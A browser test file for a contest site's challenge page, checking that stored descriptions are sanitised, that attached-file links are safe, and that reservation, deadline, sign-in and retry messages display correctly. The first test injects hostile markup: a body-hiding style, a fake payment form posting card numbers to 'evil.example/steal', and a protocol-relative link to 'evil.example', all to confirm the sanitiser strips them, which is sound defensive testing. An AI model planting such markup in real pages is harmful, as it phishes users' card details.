import { describe, expect, it } from 'vitest';
import { expectNoSeriousViolations, useBrowserSuite } from './harness';
import { openAs, SOLVERS } from './solverHelpers';

/** The open challenge's view as the mock answers it, with some fields replaced. */
const viewWith = async (url: string, patch: Record<string, unknown>) => ({
  data: {
    ...(
      (await (await fetch(`${url}/api/v1/contests/open-challenge`)).json()) as {
        data: Record<string, unknown>;
      }
    ).data,
    ...patch,
  },
});

describe('the solver challenge view: stored markup, links and what it says before Reserve', () => {
  const suite = useBrowserSuite();

  it('keeps only the editor’s markup from a stored description: no style, form, input or button', async () => {
    suite.fault({
      path: '/contests/open-challenge',
      method: 'GET',
      status: 200,
      times: 5,
      body: await viewWith(suite.url(), {
        description:
          '<style>body{display:none!important} h1{color:red}</style>' +
          '<form action="https://evil.example/steal" method="post"><input name="card" aria-label="Card number">' +
          '<button type="submit">Pay now</button></form>' +
          '<p style="position:fixed;inset:0">Safe <strong>part</strong></p><ul><li>kept item</li></ul>',
        contestfiles: [
          { key: 'evil', filename: 'evil.pdf', url: '//evil.example/x.pdf', size: 2048 },
          { key: 'good', filename: 'good.pdf', url: '/mock-storage/good.pdf', size: 2048 },
        ],
      }),
    });
    const page = await openAs(suite, '/challenges/open-challenge');
    await page.getByText('kept item').waitFor();
    expect(await page.locator('main').getByText('Safe part').count()).toBe(1);
    expect(
      await page.locator('main style, main form, main input, main [style*="fixed"]').count(),
    ).toBe(0);
    expect(await page.getByRole('button', { name: 'Pay now' }).count()).toBe(0);
    expect(await page.getByRole('textbox', { name: 'Card number' }).count()).toBe(0);
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe('block');
    // Extra materials: the protocol-relative address is shown as text, the same-site one links.
    expect(await page.getByRole('link', { name: /evil\.pdf/ }).count()).toBe(0);
    await page.getByText('evil.pdf (2 KB)').waitFor();
    expect(await page.getByRole('link', { name: /good\.pdf/ }).getAttribute('href')).toBe(
      '/mock-storage/good.pdf',
    );
  });

  it('sums the rules up in one line that does not contradict itself', async () => {
    const page = await openAs(suite, '/challenges/edu-domains-only', SOLVERS.secondTier);
    await page
      .getByText('Open to solvers with an e-mail address at .edu', { exact: true })
      .waitFor();
    expect(await page.getByText('Open to every solver').count()).toBe(0);
  });

  it('shows the time limit before Reserve and says on the button that it starts the clock', async () => {
    const page = await openAs(suite, '/challenges/timed-challenge');
    await page
      .getByText('Time limit: 1h 0m 0s to submit, counted from when you reserve a spot')
      .waitFor();
    await page.getByRole('button', { name: 'Reserve a spot and start the 1h 0m 0s clock' }).click();
    await page.getByText(/Time left to submit/).waitFor();
  });

  it('says up front that a full challenge has no spot, and offers no Reserve', async () => {
    const page = await openAs(suite, '/challenges/spots-full');
    await page
      .getByText('All spots in this challenge are taken: there is no spot to reserve.')
      .waitFor();
    expect(await page.getByRole('button', { name: /Reserve a spot/ }).count()).toBe(0);
    expect(suite.mock.journal.find('POST', '/contests/spots-full/reserve_spot')).toHaveLength(0);
  });

  it('says up front that a closed challenge has no spot', async () => {
    suite.fault({
      path: '/contests/open-challenge',
      method: 'GET',
      status: 200,
      times: 5,
      body: await viewWith(suite.url(), { deadline: '2020-01-01T00:00:00Z' }),
    });
    const page = await openAs(suite, '/challenges/open-challenge');
    await page.getByText('This challenge has closed: there is no spot to reserve.').waitFor();
    expect(await page.getByRole('button', { name: /Reserve a spot/ }).count()).toBe(0);
  });

  it('asks a signed-out visitor to sign in instead of offering Reserve', async () => {
    const page = await openAs(suite, '/challenges/open-challenge', SOLVERS.anonymous);
    await page.getByText('Sign in to reserve a spot in this challenge.').waitFor();
    expect(await page.getByRole('button', { name: /Reserve a spot/ }).count()).toBe(0);
    expect(await page.getByRole('link', { name: 'Sign in' }).getAttribute('href')).toBe(
      '/users/sign_in?return_to=%2Fchallenges%2Fopen-challenge',
    );
    await expectNoSeriousViolations(page);
  });

  it('offers Retry when the connection drops on Reserve, and focus goes to it', async () => {
    // No `times`: Chromium itself may resend a POST whose reused connection dropped.
    suite.fault({ path: '/contests/open-challenge/reserve_spot', method: 'POST', network: true });
    const page = await openAs(suite, '/challenges/open-challenge');
    await page.getByRole('button', { name: 'Reserve a spot' }).click();
    await page.getByText(/Your spot could not be reserved right now\./).waitFor();
    expect(await page.getByText('You cannot take part in this challenge').count()).toBe(0);
    await page.waitForFunction(() => document.activeElement?.textContent === 'Retry');
    suite.mock.faults.clear();
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Submit solution' }).waitFor();
    expect(await page.getByText(/Your spot could not be reserved/).count()).toBe(0);
  });
});
